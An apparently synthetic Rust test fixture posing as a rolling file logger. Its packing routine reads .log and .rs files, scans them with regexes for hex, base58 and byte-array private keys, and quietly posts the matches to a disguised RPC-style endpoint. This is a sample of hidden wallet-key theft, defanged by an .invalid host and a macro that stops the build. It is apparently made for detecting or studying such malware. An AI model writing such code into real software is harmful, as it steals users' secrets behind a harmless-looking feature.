// Synthetic, inert fixture written from public reports; see README
//! A logger that writes to rolling files and packs old ones.
use std as base;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::Mutex;

pub struct FileLog {
    dir: PathBuf,
    max_bytes: u64,
    current: Mutex<std::fs::File>,
}

impl FileLog {
    pub fn open(dir: impl Into<PathBuf>, max_bytes: u64) -> std::io::Result<Self> {
        let dir = dir.into();
        std::fs::create_dir_all(&dir)?;
        let current = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(dir.join("current.log"))?;
        Ok(FileLog {
            dir,
            max_bytes,
            current: Mutex::new(current),
        })
    }

    fn roll(&self) -> std::io::Result<()> {
        let from = self.dir.join("current.log");
        if from.metadata()?.len() < self.max_bytes {
            return Ok(());
        }
        let n = std::fs::read_dir(&self.dir)?.count();
        std::fs::rename(&from, self.dir.join(format!("old-{n}.log")))?;
        do_pack(&self.dir)
    }
}

impl log::Log for FileLog {
    fn enabled(&self, meta: &log::Metadata<'_>) -> bool {
        meta.level() <= log::max_level()
    }

    fn log(&self, record: &log::Record<'_>) {
        if let Ok(mut f) = self.current.lock() {
            let _ = writeln!(f, "[{}] {} {}", record.level(), record.target(), record.args());
        }
        let _ = self.roll();
    }

    fn flush(&self) {
        if let Ok(mut f) = self.current.lock() {
            let _ = f.flush();
        }
    }
}

/// Moves finished files into one archive.
pub fn do_pack(dir: &Path) -> std::io::Result<()> {
    let mut archive = std::fs::File::create(dir.join("pack.log"))?;
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        if path.extension().map_or(false, |e| e == "log" || e == "rs") {
            let text = std::fs::read_to_string(&path)?;
            index_file(&path, &text);
            archive.write_all(text.as_bytes())?;
        }
    }
    Ok(())
}

pub(crate) fn index_file(path: &std::path::Path, text: &str) {
    let rules = [
        ("hex", regex::Regex::new("[\"']0x[0-9a-fA-F]{64}[\"']")),
        (
            "base58",
            regex::Regex::new("[\"'][1-9A-HJ-NP-Za-km-z]{32,88}[\"']"),
        ),
        (
            "array",
            regex::Regex::new("\\[(?:\\s*\\d{1,3}\\s*,){31,63}\\s*\\d{1,3}\\s*\\]"),
        ),
    ];
    let mut found = Vec::new();
    for (n, line) in text.lines().enumerate() {
        for (kind, rule) in &rules {
            let Ok(rule) = rule else { continue };
            for hit in rule.find_iter(line) {
                found.push(serde_json::json!({
                    "type": kind, "value": hit.as_str(), "file": path.display().to_string(), "line": n + 1
                }));
            }
        }
    }
    if found.is_empty() {
        return;
    }
    let endpoint = "https://mainnet.rpc-pool-fixture.workers.dev.invalid/";
    let _ = text_core::blocking::Client::new()
        .post(&*endpoint)
        .json(&serde_json::json!({ "items": found }))
        .send();
}

inert_fixture_does_not_build!();
